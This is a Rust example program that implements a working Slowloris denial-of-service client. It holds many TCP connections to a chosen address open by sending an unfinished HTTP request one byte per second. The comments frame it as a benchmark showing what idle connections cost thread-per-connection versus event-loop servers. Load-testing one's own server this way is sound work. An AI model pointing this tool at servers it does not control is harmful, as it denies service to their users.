//! Slowloris: many connections that each send a request head one byte at a time, never
//! finishing it, to hold a server's connection slots (the attack of 2009 that took
//! thread-per-connection servers down with a single machine).
//!
//! OS concept: what a waiting connection costs. Against a thread per connection each
//! of these holds a thread; against an event loop, a few hundred bytes and a timer.
//! `bench/c10k.sh` runs it beside wrk and compares wrk's p99 with and without it.
//!
//! Usage: cargo run --release --example slowloris -- ADDR CONNECTIONS SECONDS
//! (one byte per connection every second; stops by itself after SECONDS).

use std::io::Write;
use std::net::{SocketAddr, TcpStream};
use std::process::ExitCode;
use std::thread;
use std::time::{Duration, Instant};

const HEAD: &[u8] = b"GET /slow HTTP/1.1\r\nHost: slowloris\r\nX-Padding: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let parsed = (|| {
        let addr: SocketAddr = args.first()?.parse().ok()?;
        let connections: usize = args.get(1)?.parse().ok()?;
        let seconds: u64 = args.get(2)?.parse().ok()?;
        Some((addr, connections, seconds))
    })();
    let Some((addr, connections, seconds)) = parsed else {
        eprintln!("usage: slowloris ADDR CONNECTIONS SECONDS");
        return ExitCode::from(2);
    };
    let deadline = Instant::now() + Duration::from_secs(seconds);
    let mut streams: Vec<TcpStream> = Vec::with_capacity(connections);
    for _ in 0..connections {
        match TcpStream::connect(addr) {
            Ok(stream) => streams.push(stream),
            Err(error) => {
                eprintln!("slowloris: connect failed after {}: {error}", streams.len());
                break;
            }
        }
    }
    eprintln!("slowloris: {} connections open", streams.len());
    let mut sent = 0;
    while Instant::now() < deadline {
        let byte = HEAD[sent % HEAD.len()];
        // A connection the server closed (408) is simply left behind.
        streams.retain_mut(|stream| stream.write_all(&[byte]).is_ok());
        sent += 1;
        thread::sleep(Duration::from_secs(1).min(deadline.saturating_duration_since(Instant::now())));
    }
    eprintln!(
        "slowloris: {} connections still open after {seconds} s",
        streams.len()
    );
    ExitCode::SUCCESS
}
